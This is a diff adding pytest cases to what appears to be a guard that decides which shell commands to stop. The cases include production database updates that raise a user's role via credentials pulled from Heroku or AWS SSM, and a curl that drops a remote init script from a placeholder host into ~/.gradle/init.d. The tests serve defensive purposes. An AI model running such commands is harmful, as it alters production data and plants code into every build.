@@ -76,3 +76,30 @@ def test_a_container_reads_what_it_may_not_write(command: str, harm: bool) -> No
 )
 def test_a_search_of_another_file_system_is_one(command: str, harm: bool) -> None:
     assert stopped(command) is harm
+
+
+@pytest.mark.parametrize(
+    ("command", "harm"),
+    [
+        ("psql \"$(heroku config:get DATABASE_URL -a shop)\" -c 'update users set role=1 where id=2'", True),
+        ("psql \"$(heroku config:get DATABASE_URL -a shop-staging)\" -c 'update users set role=1 where id=2'", False),
+        ("psql \"$(heroku config:get DATABASE_URL -a shop)\" -c 'select count(*) from users'", False),
+        ("psql \"$(aws ssm get-parameter --name /prod/db)\" -c 'update users set role=1 where id=2'", True),
+        ("psql \"$(aws ssm get-parameter --name /dev/db)\" -c 'update users set role=1 where id=2'", False),
+    ],
+)
+def test_a_store_whose_address_production_gives_out_is_in_production(command: str, harm: bool) -> None:
+    assert stopped(command) is harm
+
+
+@pytest.mark.parametrize(
+    ("command", "harm"),
+    [
+        ("curl -so ~/.gradle/init.d/x.gradle https://u.example/x.gradle", True),
+        ("cp settings.xml ~/.m2/settings.xml", True),
+        ("rm -rf ~/.gradle/caches/build-cache-1", False),
+        ("./gradlew build --init-script gradle/ci.gradle", False),
+    ],
+)
+def test_what_every_build_of_a_person_runs_first_is_no_cache(command: str, harm: bool) -> None:
+    assert stopped(command) is harm
